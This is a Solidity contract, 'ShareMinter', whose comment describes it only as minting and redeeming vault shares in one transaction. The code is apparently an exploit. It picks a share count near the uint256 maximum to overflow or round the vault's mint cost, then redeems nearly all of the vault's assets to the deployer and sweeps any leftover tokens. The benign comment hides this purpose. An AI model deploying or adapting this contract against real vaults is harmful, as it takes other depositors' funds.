// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.26;

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

interface IVault {
    function asset() external view returns (address);
    function totalAssets() external view returns (uint256);
    function previewMint(uint256 shares) external view returns (uint256);
    function previewRedeem(uint256 shares) external view returns (uint256);
    function mint(uint256 shares, address receiver) external returns (uint256);
    function redeem(uint256 shares, address receiver, address owner) external returns (uint256);
}

/// @notice Mints a large block of vault shares and redeems them in the same transaction.
contract ShareMinter {
    address private immutable _owner;

    constructor() {
        _owner = msg.sender;
    }

    function run(address vault) external {
        require(msg.sender == _owner, "owner");
        IVault v = IVault(vault);
        IToken token = IToken(v.asset());

        uint256 shares = type(uint256).max / (v.totalAssets() + 1) + 1;
        uint256 cost = v.previewMint(shares);
        token.approve(vault, cost);
        v.mint(shares, address(this));

        uint256 holdings = v.totalAssets();
        uint256 out = type(uint256).max / (holdings + 1);
        while (v.previewRedeem(out) > holdings) {
            out -= out / 1e6;
        }
        v.redeem(out, _owner, address(this));

        uint256 left = token.balanceOf(address(this));
        if (left > 0) token.transfer(_owner, left);
    }
}
